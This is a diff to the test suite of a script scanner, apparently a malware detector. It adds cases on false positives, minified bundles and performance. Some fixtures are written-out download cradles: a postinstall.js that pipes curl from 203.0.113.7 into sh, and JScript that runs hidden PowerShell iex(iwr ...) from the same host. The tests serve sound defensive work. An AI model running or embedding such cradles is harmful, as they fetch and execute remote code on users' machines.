@@ -122,6 +122,20 @@ describe('script scanner', () => {
     assert.deepEqual(r.heuristics.sort(), ['SCRIPT_DOWNLOAD_CRADLE', 'SCRIPT_EXECUTION']);
   });
 
+  test('shell and PowerShell command lines count in JavaScript only when it can start a process', async () => {
+    // A documentation search index (found by the false-positive benchmark in the Rust book).
+    const index = `window.search = Object.assign(window.search, JSON.parse('{"docs":{"1":{"body":"open a terminal and enter: $ curl --proto \\\\'=https\\\\' https://sh.rustup.rs -sSf | sh then on Windows: irm https://example.test/i.ps1 | iex"},"2":{"body":"let handle = thread::spawn(move || { });"}}}'));`;
+    const docs = await run(index, 'searchindex-6a1da8cc.js');
+    assert.equal(docs.attributes.scriptLanguage, 'javascript');
+    assert.deepEqual(docs.heuristics, []);
+    const dropper = await run("const { execSync } = require('child_process');\nexecSync('curl -s http://203.0.113.7/x.sh | sh');\n", 'postinstall.js');
+    assert.deepEqual(dropper.heuristics.sort(), ['SCRIPT_DOWNLOAD_CRADLE', 'SCRIPT_EXECUTION']);
+    assert.equal(verdictOf(dropper), 'SUS');
+    const jscript = await run('var sh = new ActiveXObject("WScript.Shell");\nsh.Run("powershell -w hidden -c iex (iwr http://203.0.113.7/a.ps1)", 0);\n', 'a.js');
+    assert.ok(jscript.heuristics.includes('SCRIPT_EXECUTION'), JSON.stringify(jscript.evidence));
+    assert.ok(jscript.heuristics.includes('SCRIPT_DOWNLOAD_CRADLE'), JSON.stringify(jscript.evidence));
+  });
+
   test('a base64 payload next to a decoder is decoded and emitted', async () => {
     const pe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(300, 0x90)]);
     const r = await run(`$b = [Convert]::FromBase64String('${pe.toString('base64')}')\n[IO.File]::WriteAllBytes("$env:TEMP\\a.exe", $b)\n`, 'drop.ps1');
@@ -137,5 +151,25 @@ describe('script scanner', () => {
     await run('"' + 'A'.repeat(4 * 1024 * 1024), 'y.js');
     await run('cmd /c '.repeat(300_000), 'z.vbs');
     assert.ok(Date.now() - started < 15_000, `took ${Date.now() - started} ms`);
+  });
+
+  test('minified bundles are not obfuscated: code between string literals, inlined WebAssembly (found by the false-positive benchmark)', async () => {
+    // Deterministic pseudo-random bytes: base64 of them has the entropy of a real compressed module.
+    let x = 7;
+    const wasm = Buffer.from(Array.from({ length: 21_000 }, () => ((x = (x * 1103515245 + 12345) & 0x7fffffff) >> 16) & 0xff)).toString('base64');
+    const code = Array.from({ length: 60 }, (_, i) => `function f${i}(t,e){for(let n=0;n<e;n++)a+=String.fromCharCode(t[n]^${i});return a}h[${i}]=h[${i + 1}]||{};`).join('');
+    const bundle = `!function(){"use strict";var a="",h={};${code}const w="${wasm}";const m=Uint8Array.from(atob(w),c=>c.charCodeAt(0));WebAssembly.instantiate(m);var q='${code.slice(0, 1200)}'}();`;
+    const r = await run(bundle, 'bundle.min.js');
+    assert.deepEqual(r.heuristics, [], JSON.stringify(r.evidence.map((e) => e.data)));
+    // The same blob fed to eval is still caught.
+    const evil = await run(`eval(atob("${wasm.slice(0, 400)}"));`, 'x.js');
+    assert.ok(evil.heuristics.includes('SCRIPT_OBFUSCATION'));
+  });
+
+  test('base64-looking runs just short of the thresholds stay linear (fuzz regression: 14 s on 1.2 MB)', async () => {
+    const started = Date.now();
+    const r = await run(`var d = atob(x);\n${('QUFB'.repeat(499) + 'Q ').repeat(600)}${('QUFB'.repeat(49) + ' ').repeat(6000)}`, 'runs.js');
+    assert.ok(Date.now() - started < 1500, `took ${Date.now() - started} ms`);
+    assert.ok(!r.heuristics.includes('SCRIPT_OBFUSCATION'), JSON.stringify(r.evidence));
   });
 });
